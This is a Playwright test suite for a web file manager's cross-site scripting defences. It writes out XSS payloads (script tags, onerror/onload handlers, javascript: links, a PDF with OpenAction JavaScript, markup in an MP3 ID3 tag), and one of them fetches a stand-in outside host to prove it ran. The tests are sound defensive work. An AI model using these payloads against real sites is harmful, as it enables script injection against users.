import { copyFile, mkdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import type { Page } from '@playwright/test'
import { manager, perm } from '../api/accounts.ts'
import { encode } from '../api/client.ts'
import { linkTo } from '../api/links-client.ts'
import { expect, test } from './fixtures.ts'

const CORPUS = fileURLToPath(new URL('../corpus/', import.meta.url))

/** A payload that reports here, and to another origin, that it was run. */
const RUN = "globalThis.ran=1,fetch('https://elsewhere.example/ran')"
const MARKUP = `<script>${RUN}</script><img src=x onerror="${RUN}"><svg onload="${RUN}"></svg><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="${RUN}"><script>${RUN}</script><rect width="40" height="40"/></svg>`
const XSLT = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`
const PDF = `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj
trailer<</Root 1 0 R>>
%%EOF
`

/** Files that try to run something, each for a viewer of ours or of the browser. */
const FILES: Readonly<Record<string, string>> = {
  'note.md': `${MARKUP}\n\n[a](javascript:${RUN})\n`,
  'table.csv': `a,b\n"${MARKUP.replaceAll('"', '""')}",=1+1\n`,
  'data.json': JSON.stringify({ [MARKUP]: MARKUP }),
  'page.html': `<!doctype html>${MARKUP}`,
  'PAGE.XHTML': XSLT,
  'sheet.xml': XSLT,
  'drawing.svg': SVG,
  'program.js': RUN,
  'list.m3u': `#EXTM3U\n#EXTINF:1,${MARKUP}\njavascript:${RUN}\n`,
  bare: `<!doctype html>${MARKUP}`,
  'film.srt': `1\n00:00:00,000 --> 00:00:09,000\n${MARKUP}\n`,
  'script.pdf': PDF,
}

/** Forbidden effects of a page: windows it opened, requests to other origins. */
function watch(page: Page, url: string): string[] {
  const own = new URL(url).origin
  const events: string[] = []
  page.on('dialog', dialog => {
    events.push(`said ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('request', request => {
    const isOwn = request.url().startsWith(own) || /^(?:blob|data|about|chrome-extension):/.test(request.url())
    if (!isOwn) events.push(`asked ${request.url()}`)
  })
  return events
}

/** Whether anything ran in any frame, or is in the document ready to run. */
async function demandInert(page: Page, where: string): Promise<void> {
  for (const frame of page.frames()) {
    const found = await frame
      .evaluate(() => [
        String((globalThis as { ran?: number }).ran),
        document.querySelectorAll('#root [onerror], #root [onload], #root [srcdoc], #root a[href^="javascript:"]')
          .length,
      ])
      .catch(() => ['undefined', 0])
    expect([where, ...found]).toEqual([where, 'undefined', 0])
  }
}

/** An ID3 tag whose title is markup, as in front of a recording. */
function taggedSong(song: Buffer): Buffer {
  const text = Buffer.concat([Buffer.from([3]), Buffer.from(MARKUP)])
  const frame = Buffer.concat([
    Buffer.from('TIT2\0\0\0'),
    Buffer.from([text.length >> 7, text.length & 127, 0, 0]),
    text,
  ])
  const head = Buffer.from('ID3\x03\0\0\0\0', 'latin1')
  return Buffer.concat([head, Buffer.from([frame.length >> 7, frame.length & 127]), frame, song])
}

test('XSS-07 the policy allows no inline script, and no text becomes markup or a program unnoticed', async ({
  app,
  page,
  corner,
  complaints,
}) => {
  await writeFile(join(corner.disk, 'worker.js'), 'postMessage("ran")')
  const answer = await page.request.get(`${app.url}/login`)
  const policy = answer.headers()['content-security-policy'] ?? ''
  expect(policy).not.toMatch(/unsafe-inline|unsafe-eval|unsafe-hashes/)
  expect(policy).toContain("require-trusted-types-for 'script'")
  await app.openFolder(corner.path)
  expect(complaints).toEqual([])
  const refused = await page.evaluate(
    stored => {
      const attempts: Record<string, () => unknown> = {
        markup: () => Object.assign(document.createElement('div'), { innerHTML: '<img src=x onerror=alert(1)>' }),
        program: () => Object.assign(document.createElement('script'), { text: 'alert(1)' }),
        worker: () => new Worker(stored),
        foreign: () => Object.assign(document.createElement('script'), { src: 'https://elsewhere.example/a.js' }),
        evaluated: () => setTimeout('alert(1)'),
      }
      return Object.entries(attempts).flatMap(([name, attempt]) => {
        try {
          attempt()
          return []
        } catch {
          return name
        }
      })
    },
    `${new URL(app.url).pathname.replace(/\/$/, '')}/api/raw${corner.path}/worker.js?inline=true`,
  )
  expect(refused).toEqual(['markup', 'program', 'worker', 'foreign', 'evaluated'])
  await expect.poll(() => complaints.join()).toContain('policy: require-trusted-types-for')
  complaints.length = 0
})

test('XSS-02 XSS-09 no viewer lets a file run anything, nor does the browser that opens one', async ({
  app,
  page,
  corner,
  complaints,
}) => {
  for (const [name, content] of Object.entries(FILES)) await writeFile(join(corner.disk, name), content)
  await copyFile(join(CORPUS, 'film.webm'), join(corner.disk, 'film.webm'))
  await writeFile(join(corner.disk, 'song.mp3'), taggedSong(await readFile(join(CORPUS, 'plain.mp3'))))
  const events = watch(page, app.url)
  for (const name of [...Object.keys(FILES), 'film.webm', 'song.mp3']) {
    await app.open(`/files${corner.path}/${name}`)
    await expect(page.locator('#loading')).toHaveCount(0)
    await expect(page.getByText(name, { exact: true }).first()).toBeVisible()
    await demandInert(page, name)
  }
  expect([events, complaints]).toEqual([[], []])
  for (const name of Object.keys(FILES).filter(each => each !== 'script.pdf')) {
    await page.goto(`${app.url}/api/raw${corner.path}/${name}?inline=true`).catch(() => undefined)
    await demandInert(page, `${name} by itself`)
  }
  expect(events).toEqual([])
  // The browser reports what its policy blocked; a violation is no fault here.
  complaints.length = 0
})

test('XSS-03 names full of markup are text on every screen', async ({ app, page, corner, server, token }) => {
  const name = '<img src=x onerror="ran=1">{{7*7}}'
  const shown = page.getByText(name, { exact: false })
  const boss = await manager(server)
  const settings = await boss.settings()
  const events = watch(page, app.url)
  const visit = async (address: string) => {
    await app.open(address)
    await expect(page.locator('#loading')).toHaveCount(0)
    await expect(shown.first(), address).toBeAttached()
    await demandInert(page, address)
  }
  await mkdir(join(corner.disk, name))
  await writeFile(join(corner.disk, name, `${name}.txt`), 'text')
  await copyFile(join(CORPUS, 'halves.png'), join(corner.disk, name, `${name}.png`))
  const path = `${corner.path}/${name}`
  const rule = { regex: false, allow: true, path: `/${name}`, regexp: null }
  const user = await boss.add(name, { perm: perm('execute', 'download'), scope: path, commands: [name], rules: [rule] })
  const { hash } = await linkTo(server, token, path, {})
  try {
    await boss.change({ branding: { name: `</title><script>ran=1</script>${name}`, disableExternal: false } })
    const folder = `/files${encode(path)}/`
    for (const address of [
      folder,
      `/files${encode(`${path}/${name}.txt`)}`,
      `/files${encode(`${path}/${name}.png`)}`,
      `/files${encode(`${path}/nothing`)}`,
      '/settings/shares',
      '/settings/users',
      '/settings/global',
      '/settings/audit',
      `/share/${hash}`,
    ]) {
      await visit(address)
    }
    await app.open(`/settings/users/${user}`)
    await expect(page.getByLabel('Username')).toHaveValue(name)
    await demandInert(page, 'a user')

    await app.openFolder(corner.path)
    for (const keys of ['F2', 'Shift+Delete', 'Control+i']) {
      await app.row(name).click()
      await page.keyboard.press(keys)
      const shows = { F2: app.naming, 'Control+i': page.getByRole('complementary') }
      await expect(shows[keys as keyof typeof shows] ?? app.dialog).toBeVisible()
      await demandInert(page, keys)
      await page.keyboard.press('Escape')
    }
    expect(events).toEqual([])
  } finally {
    await boss.change(JSON.parse(settings.text))
    await boss.remove(user)
  }
})
